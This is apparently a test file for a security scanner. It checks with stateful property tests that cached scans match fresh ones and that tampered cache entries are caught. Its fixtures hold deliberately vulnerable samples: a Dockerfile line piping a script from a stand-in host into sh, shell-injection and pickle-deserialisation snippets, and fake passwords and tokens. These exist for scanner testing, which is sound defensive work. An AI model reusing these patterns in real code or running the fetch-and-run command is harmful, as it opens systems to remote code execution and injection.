"""A scan with a cache says what one without says, byte for byte, whatever happens to the tree in between."""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import sqlite3
import tempfile
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any, ClassVar

import msgspec
import pytest
from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, invariant, precondition, rule, run_state_machine_as_test

from secscan.cache.store import FILE_NAME
from secscan.dockerfiles import worker as dockerfiles_worker
from secscan.findings.levels import RunStatus
from secscan.process import Ended
from secscan.scanners import dockerfile, secrets
from secscan.scanners.contract import Setup
from secscan.scanners.toolkit import FileBatch
from secscan.secrets import worker as secrets_worker
from secscan.secrets.control import control_source
from secscan.secrets.keys import VALUES_KEY_VARIABLE
from tests.support.caching import cache_in, kept, lasting, named, scanned

TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
BAD_DOCKERFILE = "FROM debian:latest\nUSER root\nRUN curl http://x.example/i.sh | sh\nENV API_PASSWORD=hunter2hunter\n"
CONTENTS = (
    b"",
    b"x = 1\n",
    b"import subprocess\nsubprocess.call(input(), shell=True)\n",
    b'password = "Tr0ub4dor-horse-staple"\n',
    b'password = ("Tr0ub4dor-"\n    "horse-staple")\nassert password  # nosec\n',
    f'token = "{TOKEN}"\n'.encode(),
    b"def broken(:\n",
    "# -*- coding: latin-1 -*-\nassert 'é'\n".encode("latin-1"),
    'import os\nos.system("é" + input())\n'.encode("utf-16"),
    b"import hashlib\nhashlib.md5(b'')\nimport pickle\npickle.loads(input())\n",
    b"\x00\xff" * 40,
    BAD_DOCKERFILE.encode(),
    b"FROM\n",
)
PATHS = (
    "a.py",
    "b.pyi",
    "tests/test_a.py",
    "docs/read me.txt",
    "Dockerfile",
    "x/Dockerfile",
    "-x.py",
    "100%.py",
    ".env",
)


_STDOUT = threading.Lock()


class InProcess:
    """The real checks of a scanner of ours without the start of a process, which is most of what it takes."""

    main: Callable[[list[str]], int]
    control: bytes
    control_name: str

    def run(self, piece: FileBatch, setup: Setup) -> Ended:
        told = io.StringIO()
        with tempfile.TemporaryDirectory() as folder, _STDOUT, contextlib.redirect_stdout(told):
            place = Path(folder, self.control_name)
            place.write_bytes(self.control)
            listed = Path(folder, "files.json")
            listed.write_text(json.dumps({str(place): self.control_name, **piece.back()}))
            os.environ[VALUES_KEY_VARIABLE] = setup.values_key
            type(self).main([str(listed)])
        said = told.getvalue().replace(json.dumps(str(place)), json.dumps(self.control_name)).encode()
        return Ended(argv=(), exit_code=0, stdout=said, stderr=b"", seconds=0.1, peak_megabytes=1)


class SecretsInProcess(InProcess, secrets.Secrets):
    main = staticmethod(secrets_worker.main)
    control = control_source()
    control_name = secrets.CONTROL
    changes: tuple[str, str] = ("", "")

    def version(self, setup: Setup) -> str:
        return super().version(setup) + self.changes[0]

    def rules_digest(self, setup: Setup) -> str:
        return super().rules_digest(setup) + self.changes[1]


class DockerfileInProcess(InProcess, dockerfile.Dockerfile):
    main = staticmethod(dockerfiles_worker.main)
    control = dockerfile._CONTROL_SOURCE
    control_name = dockerfile.CONTROL


class Trees(RuleBasedStateMachine):
    """Files come, change, move and go; versions and rules change; and every scan is compared with a cold one."""

    scanners: ClassVar[dict[str, Any]] = {"secrets": SecretsInProcess(), "dockerfile": DockerfileInProcess()}

    def __init__(self) -> None:
        super().__init__()
        self.folder = Path(tempfile.mkdtemp(prefix="secscan-test-"))
        self.tree = self.folder / "tree"
        self.tree.mkdir()
        self.files: dict[str, bytes] = {}
        self.before: list[dict[str, bytes]] = []

    def teardown(self) -> None:
        shutil.rmtree(self.folder)

    @rule(path=st.sampled_from(PATHS), content=st.sampled_from(CONTENTS))
    def write(self, path: str, content: bytes) -> None:
        self.before.append(dict(self.files))
        self.files[path] = content

    @precondition(lambda self: self.files)
    @rule(data=st.data(), path=st.sampled_from(PATHS))
    def move(self, data: st.DataObject, path: str) -> None:
        self.before.append(dict(self.files))
        self.files[path] = self.files.pop(data.draw(st.sampled_from(sorted(self.files))))

    @precondition(lambda self: self.files)
    @rule(data=st.data())
    def delete(self, data: st.DataObject) -> None:
        self.before.append(dict(self.files))
        del self.files[data.draw(st.sampled_from(sorted(self.files)))]

    @precondition(lambda self: self.before)
    @rule(data=st.data())
    def revert(self, data: st.DataObject) -> None:
        self.files = dict(data.draw(st.sampled_from(self.before)))

    @rule(version=st.sampled_from(("", "x")), rules=st.sampled_from(("", "y")))
    def upgrade(self, version: str, rules: str) -> None:
        self.scanners["secrets"].changes = (version, rules)

    @rule(damage=st.integers(0, 1 << 20))
    def damage(self, damage: int) -> None:
        place = self.folder / "cache" / FILE_NAME
        if place.exists():
            data = bytearray(place.read_bytes())
            data[damage % len(data)] ^= 1 + damage % 255
            place.write_bytes(data)

    @invariant()
    def says_what_a_cold_scan_says(self) -> None:
        shutil.rmtree(self.tree)
        self.tree.mkdir()
        for path, content in self.files.items():
            (self.tree / path).parent.mkdir(parents=True, exist_ok=True)
            (self.tree / path).write_bytes(content)
        with cache_in(self.folder / "cache") as cache:
            warm = scanned(self.tree, self.scanners, cache)
        assert lasting(warm) == lasting(scanned(self.tree, self.scanners))
        assert not any(
            value in stored
            for stored in (path.read_bytes() for path in (self.folder / "cache").iterdir())
            for value in (b"Tr0ub4dor", TOKEN.encode())
        )


_FEW = {"deadline": None, "phases": (Phase.generate,), "suppress_health_check": list(HealthCheck)}


def test_scans_with_a_cache_say_what_cold_ones_say() -> None:
    run_state_machine_as_test(Trees, settings=settings(max_examples=3, stateful_step_count=8, **_FEW))


class RealTools(Trees):
    """The same with the tools themselves."""

    scanners = named("bandit", "semgrep", "secrets", "dockerfile", "manifests")

    @rule(version=st.just(""), rules=st.just(""))
    def upgrade(self, version: str, rules: str) -> None:
        """A tool of another version is not at hand; `test_kept` has that."""


@pytest.mark.slow
def test_scans_with_a_cache_say_what_cold_ones_say_with_the_real_tools() -> None:
    run_state_machine_as_test(RealTools, settings=settings(max_examples=4, stateful_step_count=6, **_FEW))


def tree_of(parent: Path) -> Path:
    folder = parent / "tree"
    folder.mkdir()
    for number, content in enumerate(CONTENTS):
        (folder / f"f{number}.py").write_bytes(content)
    (folder / "Dockerfile").write_text(BAD_DOCKERFILE)
    return folder


def test_the_second_scan_with_real_tools_starts_none_but_for_secrets(tmp_path: Path) -> None:
    tree = tree_of(tmp_path)
    scanners = named("bandit", "secrets", "dockerfile")
    cold = scanned(tree, scanners)
    with cache_in(tmp_path / "cache") as cache:
        filled = scanned(tree, scanners, cache)
        warm = scanned(tree, scanners, cache)
    assert lasting(cold) == lasting(filled) == lasting(warm)
    assert kept(filled) == {"bandit": 0, "secrets": 0, "dockerfile": 0}
    assert kept(warm)["bandit"] == len(CONTENTS)
    assert kept(warm)["dockerfile"] == 1


def test_bandit_says_the_same_of_a_file_whatever_its_name(tmp_path: Path) -> None:
    """Its results are kept by content alone."""
    content = b"import subprocess, pickle\nassert subprocess.call(input(), shell=True)\npassword = 'hunter2hunter2'\n"
    names = ("a.py", "tests/test_a.py", "__init__.py", "pkg/__init__.py", "pkg/sub/a.py", "settings.pyi", "x y.py")
    for name in names:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(content)
    (outcome,) = _outcomes(tmp_path, "bandit")
    said = {name: [] for name in names}
    for finding in outcome.findings:
        said[finding.location.path].append((finding.sources, finding.severity, finding.location.region))
    assert len({str(one) for one in said.values()}) == 1
    assert len(said["a.py"]) >= 4


@pytest.mark.slow
def test_semgrep_says_the_same_of_a_file_whatever_its_name_and_company(tmp_path: Path) -> None:
    content = b"import os, flask\ndef f():\n    os.system(flask.request.args['x'])\n"
    names = ("a.py", "tests/test_a.py", "pkg/__init__.py", "pkg/sub/a.py", "x y.py")
    for name in names:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(content)
    (outcome,) = _outcomes(tmp_path, "semgrep")
    said = {name: [] for name in names}
    for finding in outcome.findings:
        said[finding.location.path].append((finding.sources, finding.severity, finding.location.region))
    assert len({str(one) for one in said.values()}) == 1
    assert said["a.py"]


def _outcomes(tree: Path, *names: str) -> tuple[Any, ...]:
    from secscan.scanners.runner import run_scanners
    from secscan.scanners.workspace import Workspace
    from secscan.targets.open import TargetRequest, open_target

    with open_target(TargetRequest(path=tree)) as target, Workspace(target) as space:
        return run_scanners(named(*names), Setup(target=target, jobs=2, place=space.place))


def test_a_poisoned_entry_of_somebody_with_the_key_is_found_out(tmp_path: Path) -> None:
    """Whoever has the key can write what is believed, until it is looked at again."""
    tree = tree_of(tmp_path)
    with cache_in(tmp_path / "cache", verify=True) as cache:
        real = cache.remember
        # Everything is written as if nothing had been found.
        cache.remember = lambda scope, said: real(  # type: ignore[method-assign]
            scope, {file: msgspec.structs.replace(one, findings=()) for file, one in said.items()}
        )
        scanned(tree, named("bandit"), cache)
        cache.remember = real  # type: ignore[method-assign]
        checked = scanned(tree, named("bandit"), cache)
        (run,) = checked.scanners
        assert run.status is RunStatus.FAILED
        assert "somebody wrote to it" in run.reason
        assert checked.judgement is not None
        assert checked.judgement.verdict != "passed"
        again = scanned(tree, named("bandit"), cache)
    assert lasting(again) == lasting(scanned(tree, named("bandit")))


def test_an_entry_moved_to_another_file_is_not_believed(tmp_path: Path) -> None:
    tree = tree_of(tmp_path)
    scanners = {"secrets": SecretsInProcess(), "dockerfile": DockerfileInProcess()}
    with cache_in(tmp_path / "cache") as cache:
        scanned(tree, scanners, cache)
    with contextlib.closing(sqlite3.connect(tmp_path / "cache" / FILE_NAME)) as raw:
        values = [row[0] for row in raw.execute("SELECT value FROM results ORDER BY id")]
        ids = [row[0] for row in raw.execute("SELECT id FROM results ORDER BY id")]
        for number, value in zip(ids, [*values[1:], values[0]], strict=True):
            raw.execute("UPDATE results SET value = ? WHERE id = ?", (value, number))
        raw.commit()
    with cache_in(tmp_path / "cache") as cache:
        warm = scanned(tree, scanners, cache)
    assert not any(kept(warm).values())
    assert lasting(warm) == lasting(scanned(tree, scanners))


def test_the_number_of_cores_changes_nothing(tmp_path: Path) -> None:
    tree = tree_of(tmp_path)
    scanners = {"secrets": SecretsInProcess(), "dockerfile": DockerfileInProcess()}
    assert lasting(scanned(tree, scanners, jobs=1)) == lasting(scanned(tree, scanners, jobs=5))
